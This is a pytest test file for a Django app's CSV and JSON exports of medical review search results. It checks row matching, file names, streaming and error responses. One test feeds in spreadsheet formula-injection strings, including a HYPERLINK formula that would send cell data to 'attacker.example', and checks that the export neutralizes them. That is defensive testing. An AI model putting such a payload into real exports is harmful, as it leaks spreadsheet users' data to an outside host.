"""The CSV and JSON exports of a search, through Django's test client, checked against the
database: one row per disputed item that matches, only the matching items of each case."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import date
from pathlib import Path

import pytest
from django.http import StreamingHttpResponse
from django.test import Client

from cases.models import Determination, DisputedItem
from cases.parsing.specialties import canonical_specialties
from cases.presentation import exports
from cases.search.base import SearchQuery
from cases.selectors import find_items
from cases.services import import_determinations
from tests.conftest import BAD_PARAMETERS, DATA

pytestmark = pytest.mark.django_db

ITEM_ATTRS = {"category": "category", "treatment": "subcategory", "decision": "decision"}


ARCHIVE = (300, 29)  # generated letters and their seed, for the archive fixture


def read_csv(response: StreamingHttpResponse) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def read_json(response: StreamingHttpResponse) -> list[dict[str, object]]:
    return json.loads(b"".join(response.streaming_content))


def expected_items(filters: dict[str, list[str]]) -> set[tuple[str, int]]:
    """(case id, item number) of every item the filters allow, straight from the database."""
    case_filters = {k: set(v) for k, v in filters.items() if k not in ITEM_ATTRS}
    item_filters = {ITEM_ATTRS[k]: set(v) for k, v in filters.items() if k in ITEM_ATTRS}
    found = set()
    for d in Determination.objects.prefetch_related("items"):
        values = {"specialty": set(canonical_specialties(d.specialty_names)),
                  "state": set(d.state_names),
                  "guideline": set(d.guidelines_cited)}
        if not all(values[k] & v for k, v in case_filters.items()):
            continue
        found |= {(d.public_id, i.position) for i in d.items.all()
                  if all(getattr(i, attr) in v for attr, v in item_filters.items())}
    return found


FILTERS = [
    {},
    {"decision": ["Overturned"]},
    {"category": ["Pharmaceuticals"], "decision": ["Overturned"]},
    {"treatment": ["opioids", "massage"], "decision": ["Upheld"]},
    {"specialty": ["Pain Management"], "category": ["Injections", "Surgery"]},
    {"guideline": ["ODG"], "state": ["California"], "treatment": ["physical therapy"]},
]


@pytest.mark.parametrize("filters", FILTERS)
def test_export_csv_rows_are_the_matching_items_of_the_database(
        client: Client, served: Path, filters: dict[str, list[str]]) -> None:
    response = client.get("/export.csv", filters)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(
        'attachment; filename="imr-disputed-items_')
    rows = read_csv(response)
    got = [(row["case_id"], int(row["item"])) for row in rows]
    assert len(got) == len(set(got))
    expected = expected_items(filters)
    assert set(got) == expected
    assert expected  # every filter set finds something: the comparison is not trivial
    if any(name in ITEM_ATTRS for name in filters):
        # Other items of the same cases were left out, not exported with them.
        cases = {case for case, _ in got}
        assert DisputedItem.objects.filter(determination__public_id__in=cases).count() > len(got)


def test_export_keeps_the_search_order_and_text(client: Client, served: Path) -> None:
    params = {"q": "physical therapy", "decision": "Upheld", "sort": "oldest"}
    rows = read_csv(client.get("/export.csv", params))
    ids = [case for case, _ in find_items(
        SearchQuery("physical therapy", {"decision": ("Upheld",)}, sort="oldest"))]
    order = list(dict.fromkeys(row["case_id"] for row in rows))
    assert order == ids  # every matching case has a matching item, in the search's order
    assert {row["decision"] for row in rows} == {"Upheld"}
    dates = [row["decision_date"] for row in rows if row["decision_date"]]
    assert dates == sorted(dates)


def test_export_csv_columns_hold_the_stored_values(client: Client, served: Path) -> None:
    rows = read_csv(client.get("/export.csv", {"category": "Surgery"}))
    assert list(rows[0]) == list(exports.COLUMNS)
    stored = {d.public_id: d for d in Determination.objects.prefetch_related("items")}
    for row in rows:
        d = stored[row["case_id"]]
        item = next(i for i in d.items.all() if i.position == int(row["item"]))
        assert row["url"] == f"http://testserver/cases/{d.public_id}/"
        assert row["decision_date"] == (d.decision_date.isoformat() if d.decision_date else "")
        assert row["date_of_injury"] == (d.date_of_injury.isoformat()
                                         if d.date_of_injury else "")
        assert row["reviewer_specialties"] == "; ".join(d.specialty_names)
        assert row["states_of_licensure"] == "; ".join(d.state_names)
        assert row["treatment"] == exports.neutralize(item.treatment)
        assert (row["category"], row["treatment_subcategory"], row["decision"]) == (
            "Surgery", item.subcategory, item.decision)


def test_export_case_columns_and_rationale_hold_the_stored_values(client: Client,
                                                                  served: Path) -> None:
    params = {"q": "therapy", "category": "Rehabilitation"}
    rows = read_csv(client.get("/export.csv", params))
    data = read_json(client.get("/export.json", params))
    assert len(rows) == len(data) > 10
    stored = {d.public_id: d for d in Determination.objects.prefetch_related("items")}
    seen = set()
    for row, obj in zip(rows, data, strict=True):
        d = stored[row["case_id"]]
        item = next(i for i in d.items.all() if i.position == int(row["item"]))
        assert (obj["case_outcome"], obj["guidelines_cited"], obj["patient_age"],
                obj["patient_sex"], obj["rationale"]) == (
            d.case_outcome, d.guidelines_cited, d.patient_age, d.patient_sex, item.rationale)
        assert (row["case_outcome"], row["guidelines_cited"], row["patient_age"],
                row["patient_sex"], row["rationale"]) == (
            d.case_outcome, "; ".join(d.guidelines_cited),
            "" if d.patient_age is None else str(d.patient_age), d.patient_sex,
            exports.neutralize(item.rationale))
        seen.add((d.case_outcome, d.patient_sex, len(d.guidelines_cited)))
    # The rows are varied enough for the comparison to mean something.
    assert {outcome for outcome, _, _ in seen} >= {"Upheld", "Partially overturned"}
    assert {sex for _, sex, _ in seen} >= {"male", "female"}
    assert len({n for _, _, n in seen}) > 1


@pytest.mark.parametrize(("params", "name"), [
    ({"q": "massage", "decision": "Overturned"}, "imr-disputed-items_massage_overturned"),
    ({}, "imr-disputed-items"),
    ({"q": '"physical therapy" -lumbar', "category": "Rehabilitation", "sort": "oldest",
      "page": "3", "decided_from": "2016-01-01"},
     "imr-disputed-items_physical-therapy-not-lumbar_rehabilitation_decided-from-2016-01-01"),
    ({"q": "Ménière's", "specialty": "Physical Medicine & Rehabilitation",
      "quantity_unit": "sessions", "quantity_min": "6"},
     "imr-disputed-items_meniere-s_physical-medicine-rehabilitation_quantity-unit-sessions"
     "_quantity-min-6"),
])
def test_export_file_name_says_which_search_it_holds(
        client: Client, served: Path, monkeypatch: pytest.MonkeyPatch, params: dict,
        name: str) -> None:
    monkeypatch.setattr("django.utils.timezone.localdate", lambda: date(2026, 12, 7))
    for extension in ("csv", "json"):
        response = client.get(f"/export.{extension}", params)
        assert response.status_code == 200
        assert response["Content-Disposition"] == (
            f'attachment; filename="{name}_2026-12-07.{extension}"')


def test_export_file_name_of_a_long_search_is_bounded(client: Client, served: Path) -> None:
    words = " ".join(["lumbar", "cervical", "shoulder", "knee"] * 12)  # 359 characters
    response = client.get("/export.csv", {"q": words, "state": "California"})
    assert response.status_code == 200
    name = response["Content-Disposition"].split('filename="')[1].rstrip('"')
    search = name.removeprefix("imr-disputed-items_").rsplit("_", 1)[0]
    assert search.startswith("lumbar-cervical-shoulder-knee-lumbar")
    assert len(search) <= exports.MAX_NAME_SEARCH
    assert name.endswith(".csv") and set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-_.")


def test_export_csv_bom_only_when_asked(client: Client, served: Path) -> None:
    params = {"category": "Surgery"}
    plain = b"".join(client.get("/export.csv", params).streaming_content)
    marked = b"".join(client.get("/export.csv", {**params, "bom": "1"}).streaming_content)
    assert plain.startswith(b"case_id,url,item,")
    assert marked == b"\xef\xbb\xbf" + plain  # the mark, then the same file
    assert b"".join(client.get("/export.csv", {**params, "bom": "0"}).streaming_content) == plain
    refused = client.get("/export.csv", {**params, "bom": "yes"})
    assert refused.status_code == 400
    assert refused.content.decode().startswith("bom is 1 (start the file with a UTF-8")
    # JSON has no byte-order mark.
    assert b"".join(client.get("/export.json", {**params, "bom": "1"}).streaming_content
                    ).startswith(b"[")


def test_results_and_outcomes_pages_offer_the_csv_for_excel(client: Client,
                                                          served: Path) -> None:
    params = {"q": "therapy", "category": "Surgery"}
    page = client.get("/", params).content.decode()
    link = re.search(r'<a id="export-csv-excel" href="([^"]+)"', page)
    assert link is not None
    url = html.unescape(link.group(1))
    marked = b"".join(client.get(url).streaming_content)
    plain = b"".join(client.get("/export.csv", params).streaming_content)
    assert marked == b"\xef\xbb\xbf" + plain and plain.count(b"\n") > 1
    outcomes = client.get("/outcomes/", params).content.decode()
    assert f'href="{html.escape(url)}"' in outcomes


def test_export_json_has_the_same_rows_as_csv(client: Client, served: Path) -> None:
    params = {"treatment": ["opioids"], "decision": "Overturned"}
    response = client.get("/export.json", params)
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].endswith('.json"')
    data = read_json(response)
    rows = read_csv(client.get("/export.csv", params))
    assert len(data) == len(rows) > 0
    for obj, row in zip(data, rows, strict=True):
        assert list(obj) == list(exports.COLUMNS)
        assert obj["case_id"] == row["case_id"] and obj["item"] == int(row["item"])
        assert "; ".join(obj["reviewer_specialties"]) == row["reviewer_specialties"]
        assert obj["treatment_subcategory"] == "opioids"


def test_export_of_nothing_is_a_header_or_an_empty_array(client: Client, served: Path) -> None:
    params = {"q": "zzyzxqwv"}  # (a state no letter has is refused: a 400)
    assert b"".join(client.get("/export.csv", params).streaming_content) == (
        ",".join(exports.COLUMNS) + "\r\n").encode()
    assert read_json(client.get("/export.json", params)) == []


def test_export_before_any_import_is_empty(client: Client) -> None:
    # No rows (the archive of other tests is deleted until this test's rollback) and the
    # test's own index directory, never built.
    Determination.objects.all().delete()
    assert read_json(client.get("/export.json")) == []
    assert len(read_csv(client.get("/export.csv"))) == 0


def test_export_csv_neutralizes_formulas(client: Client) -> None:
    # Only this letter: an import into a new index would index the archive's letters too.
    Determination.objects.all().delete()
    import_determinations(paths=[DATA / "formula_2013.txt"])
    rows = read_csv(client.get("/export.csv"))
    treatments = [row["treatment"] for row in rows if row["case_id"] == "CM13-0099077"]
    assert treatments == [
        '\'=HYPERLINK("http://attacker.example/?d="&A1,"Norco") #120',
        "'-2+3 physical therapy 2x6 for the lumbar spine",
        "'+SUM(1,2) TENS unit",
        "'@SUM(A1) a cane",
    ]
    # No cell of any row starts with a character a spreadsheet would evaluate.
    assert not [cell for row in rows for cell in row.values()
                if cell.startswith(exports.FORMULA_STARTS)]
    # JSON is not opened by spreadsheets: it keeps the text as written.
    data = read_json(client.get("/export.json"))
    assert [obj["treatment"][:3] for obj in data] == ["=HY", "-2+", "+SU", "@SU"]


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\r=1", "'\r=1"), ("Norco = 10mg", "Norco = 10mg"), ("", ""), ("'quoted", "'quoted"),
])
def test_neutralize_quotes_formula_starts_only(cell: str, shown: str) -> None:
    assert exports.neutralize(cell) == shown


def test_export_streams_twenty_thousand_rows(client: Client, served: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    # Many more items per stored case than the index knows of: without item filters the
    # export takes every stored item of every matching case, so this is 20,000+ rows.
    stored = list(Determination.objects.values_list("pk", flat=True))
    per_case = 20_000 // len(stored) + 1
    DisputedItem.objects.bulk_create(
        DisputedItem(determination_id=pk, position=100 + n, treatment=f"Extra request {n}",
                     decision="Upheld", category="Other")
        for pk in stored for n in range(per_case))
    total = DisputedItem.objects.count()
    assert total > 20_000
    monkeypatch.setattr("cases.selectors.export_rows.CHUNK_SIZE", 100)
    response = client.get("/export.csv")
    assert isinstance(response, StreamingHttpResponse)
    pieces = list(response.streaming_content)
    assert len(pieces) >= len(stored) // 100  # a piece per chunk, never the whole at once
    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode())))
    assert len(rows) == total + 1
    assert len(read_json(client.get("/export.json"))) == total


@pytest.mark.parametrize(("params", "message"), [
    *BAD_PARAMETERS, ({"q": "a*"}, "Type at least 2 letters before * or ?")])
def test_export_bad_parameters_are_400_with_the_message(client: Client, served: Path,
                                                        params: dict, message: str) -> None:
    response = client.get("/export.csv", params)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert message in response.content.decode()
    response = client.get("/export.json", params)
    assert response.status_code == 400
    assert message in response.json()["error"]
    assert response.json()["fields"]


def test_export_missing_index_is_503(client: Client, tmp_path: Path, settings: object) -> None:
    import_determinations(paths=[DATA / "layout_2013.txt"], index=False)  # a letter, no index
    settings.CASES_SEARCH = {  # type: ignore[attr-defined]
        "BACKEND": "cases.search.whoosh_backend.WhooshBackend",
        "OPTIONS": {"path": str(tmp_path / "not-built")},
    }
    for url in ("/export.csv", "/export.json"):
        response = client.get(url)
        assert response.status_code == 503
        assert response["Retry-After"] == "60"
        assert "temporarily unavailable" in response.content.decode()


def test_export_only_get(client: Client) -> None:
    assert client.post("/export.csv").status_code == 405


def test_search_results_link_the_exports_without_the_page(client: Client,
                                                          served: Path) -> None:
    html = client.get("/", {"q": "therapy", "decision": "Upheld", "page": "2"}).content.decode()
    for link in ('id="export-csv" href="/export.csv?q=therapy&amp;decision=Upheld"',
                 'id="export-json" href="/export.json?q=therapy&amp;decision=Upheld"',
                 'id="outcomes-link" href="/outcomes/?q=therapy&amp;decision=Upheld"'):
        assert link in html
